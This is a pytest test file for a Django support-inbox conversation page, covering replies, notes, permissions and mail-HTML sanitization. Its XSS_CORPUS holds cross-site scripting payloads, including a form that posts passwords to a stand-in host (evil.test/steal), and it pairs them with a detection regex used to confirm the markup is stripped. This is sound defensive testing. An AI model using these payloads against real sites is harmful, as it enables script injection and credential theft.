"""The conversation page: thread across channels, side panel, replies, notes and controls."""

from __future__ import annotations

import html as html_lib
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import Team
from accounts.roles import Role
from channels_app.email.html import sanitize_html
from channels_app.models import Channel, OutboundMessage
from core import realtime
from profiles.models import Customer, Identity, IdentityKind
from tickets.models import (
    Conversation,
    ConversationRead,
    ConversationStatus,
    Direction,
    InternalNote,
    Label,
    Message,
)

pytestmark = pytest.mark.django_db


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def team():
    return Team.objects.create(name="Support")


@pytest.fixture
def channels(team):
    email = Channel.objects.create(kind="email", name="Support mailbox", address="help@acme.test")
    telegram = Channel.objects.create(kind="telegram", name="Acme Bot")
    sms = Channel.objects.create(kind="sms", name="Acme SMS")
    whatsapp = Channel.objects.create(kind="whatsapp", name="Acme WhatsApp")
    for channel in (email, telegram, sms, whatsapp):
        channel.teams.add(team)
    return {"email": email, "telegram": telegram, "sms": sms, "whatsapp": whatsapp}


@pytest.fixture
def customer():
    anna = Customer.objects.create(name="Anna Kowalska", company="Kowalska Consulting")
    Identity.objects.create(customer=anna, kind=IdentityKind.EMAIL, value="anna@kowalska.test")
    Identity.objects.create(customer=anna, kind=IdentityKind.TELEGRAM, value="501234567")
    Identity.objects.create(customer=anna, kind=IdentityKind.PHONE, value="+48601234567")
    Identity.objects.create(customer=anna, kind=IdentityKind.WHATSAPP, value="+48601234567")
    return anna


@pytest.fixture
def agent(make_user, team):
    return make_user(Role.AGENT, teams=[team], username="alice")


@pytest.fixture
def colleague(make_user, team):
    return make_user(Role.AGENT, teams=[team], username="bob")


@pytest.fixture
def outsider(make_user):
    return make_user(Role.AGENT, teams=[Team.objects.create(name="Sales")], username="olga")


def say(conv, text, *, channel=None, direction=Direction.INBOUND, author=None, at=None, html=""):
    at = at or timezone.now()
    message = Message.objects.create(
        conversation=conv,
        channel=channel or conv.channel,
        direction=direction,
        author=author,
        body=text,
        html=html,
        created_at=at,
    )
    conv.last_activity_at = at
    conv.save(update_fields=["last_activity_at"])
    return message


@pytest.fixture
def conversation(channels, customer):
    now = timezone.now()
    conv = Conversation.objects.create(
        customer=customer,
        channel=channels["email"],
        subject="Invoice for March",
        created_at=now - timedelta(hours=2),
        last_activity_at=now - timedelta(hours=2),
    )
    say(conv, "Could you resend the March invoice?", at=now - timedelta(hours=2))
    say(conv, "Also pinging you here.", channel=channels["telegram"], at=now - timedelta(hours=1))
    return conv


def url(name, conv, **kwargs):
    return reverse(name, kwargs={"pk": conv.pk, **kwargs})


@pytest.fixture
def published(monkeypatch):
    sent: list[tuple[list[str], str, dict]] = []
    monkeypatch.setattr(
        realtime, "publish", lambda groups, kind, payload: sent.append((list(groups), kind, payload))
    )
    return sent


# --- Viewing -----------------------------------------------------------------------------------------
def test_page_shows_both_channels_and_notes(agent, conversation, channels):
    InternalNote.objects.create(conversation=conversation, author=agent, body="Check the VAT number first")
    response = client_for(agent).get(url("conversation_detail", conversation))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Could you resend the March invoice?" in page
    assert "Also pinging you here." in page
    assert 'data-channel-kind="email"' in page and 'data-channel-kind="telegram"' in page
    assert 'class="thread-item thread-note"' in page and "Check the VAT number first" in page
    # Customer panel with identities and a link to the profile.
    assert f'href="/customers/{conversation.customer_id}/"' in page
    assert "anna@kowalska.test" in page
    # The default reply channel is the one the customer wrote on last (Telegram).
    assert re.search(rf'<option value="{channels["telegram"].pk}"[^>]*selected', page)
    assert ConversationRead.objects.filter(user=agent, conversation=conversation).exists()


def test_opening_again_moves_the_one_read_marker(agent, conversation):
    client = client_for(agent)
    client.get(f"/inbox/{conversation.pk}/")
    first = ConversationRead.objects.get(user=agent, conversation=conversation).read_at
    client.get(f"/inbox/{conversation.pk}/")
    markers = list(ConversationRead.objects.filter(user=agent, conversation=conversation))
    assert len(markers) == 1 and markers[0].read_at > first


def test_delivery_status_of_outbound_messages(agent, conversation):
    reply = say(conversation, "Sent it!", direction=Direction.OUTBOUND, author=agent)
    OutboundMessage.objects.create(
        channel=conversation.channel, recipient="anna@kowalska.test", message=reply, status="delivered"
    )
    page = client_for(agent).get(url("conversation_detail", conversation)).content.decode()
    assert 'data-delivery-status="delivered"' in page


def test_conversation_the_user_may_not_see_is_404(outsider, conversation):
    client = client_for(outsider)
    assert client.get(url("conversation_detail", conversation)).status_code == 404
    assert client.get(reverse("conversation_detail", kwargs={"pk": 999999})).status_code == 404


def test_anonymous_is_sent_to_login(client, conversation):
    response = client.get(url("conversation_detail", conversation))
    assert response.status_code == 302 and "login" in response["Location"]


def test_query_count_does_not_grow_with_the_thread(agent, conversation, channels):
    client = client_for(agent)
    client.get(url("conversation_detail", conversation))  # warm caches (session, permissions)

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url("conversation_detail", conversation)).status_code == 200
        return len(ctx.captured_queries)

    say(conversation, "third", channel=channels["sms"])
    few = count()
    base = timezone.now()
    for n in range(97):
        msg = say(
            conversation, f"m{n}", direction=Direction.OUTBOUND, author=agent, at=base + timedelta(seconds=n)
        )
        OutboundMessage.objects.create(channel=conversation.channel, recipient="x", message=msg)
        InternalNote.objects.create(conversation=conversation, author=agent, body=f"n{n}")
    assert Message.objects.filter(conversation=conversation).count() == 100
    assert count() == few


# --- Replying ----------------------------------------------------------------------------------------
def last_seen(conv) -> int:
    return Message.objects.filter(conversation=conv).order_by("-id").values_list("id", flat=True)[0]


def test_reply_through_a_chosen_channel(agent, conversation, channels):
    response = client_for(agent).post(
        url("conversation_reply", conversation),
        {
            "channel": channels["sms"].pk,
            "text": "We resent it.",
            "last_seen_message_id": last_seen(conversation),
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    outbound = OutboundMessage.objects.get()
    assert outbound.channel == channels["sms"]
    assert outbound.recipient == "+48601234567"
    assert outbound.message.author == agent
    assert outbound.message.metadata["sms"] == {"encoding": "GSM-7", "segments": 1}
    assert 'data-testid="reply-sent"' in response.content.decode()
    assert 'id="thread" ' in response.content.decode() and 'hx-swap-oob="true"' in response.content.decode()


def test_send_and_resolve(agent, conversation, channels):
    client_for(agent).post(
        url("conversation_reply", conversation),
        {
            "channel": channels["email"].pk,
            "text": "Attached.",
            "resolve": "1",
            "last_seen_message_id": last_seen(conversation),
        },
    )
    # Resolved once the reply is sent (tests/tickets/test_reply_failure.py), not while it is queued.
    conversation.refresh_from_db()
    assert conversation.status == ConversationStatus.OPEN
    outbound = OutboundMessage.objects.get()
    assert outbound.recipient == "anna@kowalska.test"
    assert outbound.message.metadata["resolve_on_sent"] is True


def test_reply_errors_are_shown(agent, conversation, channels):
    client = client_for(agent)
    # WhatsApp: the customer never wrote there, so free text is refused.
    response = client.post(
        url("conversation_reply", conversation),
        {"channel": channels["whatsapp"].pk, "text": "Hi", "last_seen_message_id": last_seen(conversation)},
        HTTP_HX_REQUEST="true",
    )
    assert 'data-testid="reply-error"' in response.content.decode()
    assert "template" in response.content.decode()
    # A channel that can't reach the customer (or doesn't exist) is refused too.
    other = Channel.objects.create(kind="messenger", name="Acme Page")
    response = client.post(url("conversation_reply", conversation), {"channel": other.pk, "text": "Hi"})
    assert response.status_code == 400
    assert not OutboundMessage.objects.exists()


def test_collision_refused_then_sent_anyway(agent, colleague, conversation, channels):
    seen = last_seen(conversation)
    say(conversation, "I already sent it, Anna.", direction=Direction.OUTBOUND, author=colleague)
    client = client_for(agent)
    data = {"channel": channels["email"].pk, "text": "Here it is.", "last_seen_message_id": seen}
    response = client.post(url("conversation_reply", conversation), data, HTTP_HX_REQUEST="true")
    page = response.content.decode()
    assert 'data-testid="collision"' in page
    assert "I already sent it, Anna." in page
    assert "Here it is." in page  # the draft is kept
    assert not OutboundMessage.objects.exists()
    # Without htmx the refusal is a 409 with the whole page.
    assert client.post(url("conversation_reply", conversation), data).status_code == 409

    response = client.post(
        url("conversation_reply", conversation), {**data, "force": "1"}, HTTP_HX_REQUEST="true"
    )
    assert 'data-testid="reply-sent"' in response.content.decode()
    assert OutboundMessage.objects.get().message.body == "Here it is."


def test_inbound_message_after_last_seen_is_no_collision(agent, conversation, channels):
    seen = last_seen(conversation)
    say(conversation, "Any news?")
    client_for(agent).post(
        url("conversation_reply", conversation),
        {"channel": channels["email"].pk, "text": "Yes!", "last_seen_message_id": seen},
    )
    assert OutboundMessage.objects.count() == 1


def test_sms_count_endpoint(agent):
    response = client_for(agent).post(reverse("conversation_sms_count"), {"text": "Zażółć" * 20})
    assert response.json() == {"encoding": "UCS-2", "segments": 2, "chars": 120}


# --- Notes and controls --------------------------------------------------------------------------------
def test_note_with_mentions_notifies_who_can_see(agent, colleague, outsider, conversation, published):
    response = client_for(agent).post(
        url("conversation_note", conversation),
        {"body": "@bob can you check? @olga too, and @nobody."},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    note = InternalNote.objects.get()
    assert list(note.mentions.all()) == [colleague]  # olga is in another team: not mentioned
    notices = [(groups, payload) for groups, kind, payload in published if kind == realtime.SYSTEM_NOTICE]
    assert notices == [([realtime.user_group(colleague.pk)], notices[0][1])]
    assert "mentioned you" in notices[0][1]["text"]
    assert any(kind == "note.created" for _, kind, _ in published)
    assert "@bob can you check?" in response.content.decode()


def test_empty_note_is_refused(agent, conversation):
    response = client_for(agent).post(
        url("conversation_note", conversation), {"body": "  "}, HTTP_HX_REQUEST="true"
    )
    assert 'role="alert"' in response.content.decode()
    assert not InternalNote.objects.exists()


def test_labels_priority_assign_status_snooze(agent, colleague, outsider, conversation, published):
    client = client_for(agent)
    post = lambda name, data: client.post(url(name, conversation), data, HTTP_HX_REQUEST="true")  # noqa: E731
    vip = Label.objects.create(name="VIP", color="amber")

    post("conversation_label_add", {"label": vip.pk})
    assert list(conversation.labels.all()) == [vip]
    post("conversation_label_remove", {"label": vip.pk})
    assert not conversation.labels.exists()

    post("conversation_priority", {"priority": "urgent"})
    conversation.refresh_from_db()
    assert conversation.priority == "urgent"

    post("conversation_assign", {"assignee": "me"})
    conversation.refresh_from_db()
    assert conversation.assignee == agent
    post("conversation_assign", {"assignee": colleague.pk})
    conversation.refresh_from_db()
    assert conversation.assignee == colleague
    # The one who lost it hears about it too.
    assert realtime.user_group(agent.pk) in published[-1][0]
    response = post("conversation_assign", {"assignee": outsider.pk})
    assert 'data-testid="controls-error"' in response.content.decode()
    conversation.refresh_from_db()
    assert conversation.assignee == colleague
    post("conversation_assign", {"assignee": "none"})
    conversation.refresh_from_db()
    assert conversation.assignee is None

    post("conversation_status", {"status": "pending"})
    conversation.refresh_from_db()
    assert conversation.status == "pending"
    assert post("conversation_status", {"status": "bogus"}).status_code == 200
    conversation.refresh_from_db()
    assert conversation.status == "pending"

    until = (timezone.localtime() + timedelta(days=1)).replace(second=0, microsecond=0)
    post("conversation_snooze", {"mode": "time", "until": until.strftime("%Y-%m-%dT%H:%M")})
    conversation.refresh_from_db()
    assert conversation.status == "snoozed" and conversation.snoozed_until == until
    post("conversation_snooze", {"mode": "reply"})
    conversation.refresh_from_db()
    assert conversation.status == "snoozed" and conversation.snoozed_until is None
    post("conversation_status", {"status": "open"})
    conversation.refresh_from_db()
    assert conversation.status == "open" and conversation.snoozed_until is None
    assert all(kind == "conversation.updated" for _, kind, _ in published)


POSTS = [
    ("conversation_reply", {"text": "x"}),
    ("conversation_note", {"body": "x"}),
    ("conversation_status", {"status": "resolved"}),
    ("conversation_priority", {"priority": "high"}),
    ("conversation_assign", {"assignee": "me"}),
    ("conversation_label_add", {"label": 1}),
    ("conversation_label_remove", {"label": 1}),
    ("conversation_snooze", {"mode": "reply"}),
]


@pytest.mark.parametrize(("name", "data"), POSTS)
def test_every_post_checks_permissions(name, data, outsider, conversation, client):
    target = url(name, conversation)
    assert client.post(target, data).status_code == 302  # anonymous → login
    assert client_for(outsider).post(target, data).status_code == 404  # not visible
    assert client_for(outsider).get(target).status_code == 405  # POST only
    conversation.refresh_from_db()
    assert conversation.status == ConversationStatus.OPEN and conversation.assignee is None
    assert not InternalNote.objects.exists() and not OutboundMessage.objects.exists()


def test_csrf_is_required(agent, conversation):
    client = Client(enforce_csrf_checks=True)
    client.force_login(agent)
    assert client.post(url("conversation_status", conversation), {"status": "resolved"}).status_code == 403


# --- Mail HTML ----------------------------------------------------------------------------------------
XSS_CORPUS = [
    "<script>window.parent.pwned=1</script>",
    '<img src="x" onerror="window.parent.pwned=1">',
    '<a href="javascript:window.parent.pwned=1">click</a>',
    '<svg><script>window.parent.pwned=1</script><circle onload="pwned()"/></svg>',
    '<div style="width: expression(alert(1)); background: url(https://evil.test/track.gif)">css</div>',
    "<style>body{background:url(https://evil.test/bg.gif)}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<form action="https://evil.test/steal"><input name="password"><button>Go</button></form>',
    '<iframe src="https://evil.test/"></iframe>',
    '<object data="https://evil.test/x.swf"></object>',
    '<a href="https://acme.test/ok">safe link</a>',
    '<img src="https://evil.test/pixel.gif" alt="pixel">',
]
DANGER = re.compile(
    r"<script|onerror|onload|javascript:|expression\(|url\(|<meta http-equiv=\"refresh|<base href|"
    r"<form|evil\.test/steal|<iframe src|<object|<svg",
    re.IGNORECASE,
)


def test_mail_html_is_sanitized_and_sandboxed(agent, conversation, channels):
    raw = "<p>Hello</p>" + "".join(XSS_CORPUS)
    stored = sanitize_html(raw, inline_ids=set())
    # What the inbound path stores is already clean ...
    assert not DANGER.search(stored)
    # ... and the page sanitizes again: defence in depth against rows written some other way.
    say(conversation, "Hello", html=raw)
    page = client_for(agent).get(url("conversation_detail", conversation)).content.decode()
    frames = re.findall(r'<iframe class="mail-iframe"([^>]*)>', page)
    assert len(frames) == 1
    attrs = frames[0]
    sandbox = re.search(r'sandbox="([^"]*)"', attrs).group(1)
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    srcdoc = html_lib.unescape(re.search(r'srcdoc="([^"]*)"', attrs).group(1))
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data: cid:" in srcdoc
    body = srcdoc.split("<body>", 1)[1]
    assert not DANGER.search(body)
    assert "safe link" in body and "Hello" in body
    # Outside the srcdoc attribute nothing of the corpus survives.
    outside = page.replace(frames[0], "")
    for needle in ("pwned", "evil.test", "expression(", "javascript:"):
        assert needle not in outside
    # Remote images are blocked until asked for, then allowed for that frame only.
    assert 'data-testid="show-images"' in page
    message = Message.objects.exclude(html="").get()
    frame = client_for(agent).get(
        url("conversation_mail_frame", conversation, message_id=message.pk) + "?images=1"
    )
    srcdoc = html_lib.unescape(re.search(r'srcdoc="([^"]*)"', frame.content.decode()).group(1))
    assert "img-src https:" in srcdoc and "<script" not in srcdoc.lower()


def test_mail_frame_respects_visibility(outsider, agent, conversation):
    message = say(conversation, "x", html="<p>x</p>")
    target = url("conversation_mail_frame", conversation, message_id=message.pk)
    assert client_for(outsider).get(target).status_code == 404
    assert client_for(agent).get(target).status_code == 200


def test_whatsapp_window_state_is_shown(agent, conversation, channels):
    client = client_for(agent)
    page = client.get(url("conversation_detail", conversation)).content.decode()
    assert re.search(rf'<option value="{channels["whatsapp"].pk}"[^>]*data-window-open="0"', page)
    assert "only approved templates can be sent" in page
    say(conversation, "Hi on WhatsApp", channel=channels["whatsapp"])
    page = client.get(url("conversation_detail", conversation)).content.decode()
    assert re.search(rf'<option value="{channels["whatsapp"].pk}"[^>]*data-window-open="1"', page)
    response = client.post(
        url("conversation_reply", conversation),
        {
            "channel": channels["whatsapp"].pk,
            "text": "Hello!",
            "last_seen_message_id": last_seen(conversation),
        },
    )
    assert response.status_code == 302
    assert OutboundMessage.objects.get().channel == channels["whatsapp"]


@pytest.mark.django_db(transaction=True)
def test_the_read_marker_upsert_outside_a_transaction(agent, conversation):
    # As a request runs it: no transaction around, so the one-statement upsert does the work.
    from django.db import connection

    from tickets.conversation_services import do_mark_read

    assert not connection.in_atomic_block
    do_mark_read(conversation=conversation, user=agent)
    first = ConversationRead.objects.get(user=agent, conversation=conversation).read_at
    do_mark_read(conversation=conversation, user=agent)
    markers = list(ConversationRead.objects.filter(user=agent, conversation=conversation))
    assert len(markers) == 1 and markers[0].read_at > first
    with connection.cursor() as cursor:
        cursor.execute("SHOW synchronous_commit")
        assert cursor.fetchone()[0] == "on"  # the setting ended with the upsert's own transaction
